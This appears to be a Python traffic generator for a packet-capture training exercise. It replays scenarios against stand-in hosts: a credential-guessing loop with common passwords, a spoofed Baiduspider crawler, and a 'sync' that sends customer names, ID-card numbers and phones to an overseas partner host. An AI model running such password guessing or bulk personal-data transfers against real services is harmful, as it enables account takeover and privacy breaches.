"""The clients written in Python, one command each: task, guess, walk, bot, sync.

Names are not looked up: HOSTS says where each is inside the capture's own network.
"""

import base64
import http.client
import json
import socket
import sys
import time
import urllib.error
import urllib.request

import people

CRM, SHOP, PARTNER = "crm.corp.example", "shop.corp.example", "api.partner-overseas.example"
HOSTS = {CRM: "10.20.1.10", SHOP: "10.20.1.10", PARTNER: "10.99.4.2"}
PRODUCTS = 60

_getaddrinfo = socket.getaddrinfo


def from_table(host, *rest, **named):
    return _getaddrinfo(HOSTS[host], *rest, **named)


def fetch(path, headers=None, data=None, method=None):
    """One request on one connection, as urllib does it. Returns status and body."""
    request = urllib.request.Request(f"http://{CRM}{path}", data, headers or {}, method=method)
    try:
        with urllib.request.urlopen(request) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as refused:
        return refused.code, refused.read()


def login(account, password):
    status, body = fetch(
        "/api/v1/login", {"Content-Type": "application/json"}, json.dumps({"username": account, "password": password}).encode())
    return json.loads(body)["data"]["token"] if status == 200 else None


def task():
    """A nightly task: HTTP Basic (refused, then let in), a token in an address, an export of everything."""
    for password in ("Hs5=wY8_cB3xNQ", people.STAFF["report"][0]):
        fetch("/internal/ledger.csv", {"Authorization": "Basic " + base64.b64encode(f"report:{password}".encode()).decode()})
    bearer = login("report", people.STAFF["report"][0])
    for _ in range(3):
        fetch(f"/api/v1/reports/daily?date=2026-11-19&access_token={bearer}")
        time.sleep(0.3)
    fetch("/api/v1/customers/export.csv", {"Authorization": f"Bearer {bearer}"})


def guess():
    """Forty logins in about twelve seconds; two of them succeed."""
    common = ["888888", "password", "qwerty123", "abc12345", "woaini1314", "111111", "admin@123"]
    attempts = [(account, word) for word in common for account in ("chenjie", "guoqiang", "sunli", "wangfang", "zhaomin")]
    attempts += [("zhaomin", word) for word in ("zhaomin", "zhaomin123", "zhaomin2026", "zhaomin@2026", "zhaomin@2026")]
    link = http.client.HTTPConnection(CRM)
    for account, word in attempts:
        link.request(
            "POST", "/api/v1/login", json.dumps({"username": account, "password": word}), {"Content-Type": "application/json"})
        answer = link.getresponse()
        bearer = json.loads(answer.read()).get("data", {}).get("token")
        time.sleep(0.25)
    link.request("GET", "/api/v1/customers?page=1", headers={"Authorization": f"Bearer {bearer}"})
    link.getresponse().read()
    link.close()


def walk():
    """A script of somebody's that takes every product page, with the requests library as it comes."""
    import requests

    with requests.Session() as session:
        session.get(f"http://{SHOP}/products/")
        for number in range(1, PRODUCTS + 1):
            session.get(f"http://{SHOP}/products/{number}")
            time.sleep(0.1)


def bot():
    """A crawler that says what it is, reads robots.txt and keeps one connection."""
    agent = "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"
    link = http.client.HTTPConnection(SHOP)
    for path in ["/robots.txt", "/products/"] + [f"/products/{number}" for number in range(1, PRODUCTS + 1)]:
        link.request("GET", path, headers={"User-Agent": agent, "Accept-Language": "zh-cn,zh-tw"})
        link.getresponse().read()
        time.sleep(0.15)
    link.close()


def sync():
    """An inside task that hands customers to a partner abroad, twenty a batch."""
    bearer = login("svc-sync", people.STAFF["svc-sync"][0])
    link = http.client.HTTPConnection(PARTNER)
    link.request("GET", "/v2/status")
    link.getresponse().read()
    for page in range(1, 4):
        _, body = fetch(f"/api/v1/customers?page={page}", {"Authorization": f"Bearer {bearer}"})
        contacts = [{key: person[key] for key in ("name", "idCard", "mobile", "email")} for person in json.loads(body)["data"]]
        link.request("POST", "/v2/contacts", json.dumps({"batch": page, "contacts": contacts}), {
            "Content-Type": "application/json", "X-Api-Key": "pk_demo_3f9a61c07be24d58", "User-Agent": "crm-sync/1.4"})
        link.getresponse().read()
    link.close()


if __name__ == "__main__":
    socket.getaddrinfo = from_table
    {"task": task, "guess": guess, "walk": walk, "bot": bot, "sync": sync}[sys.argv[1]]()
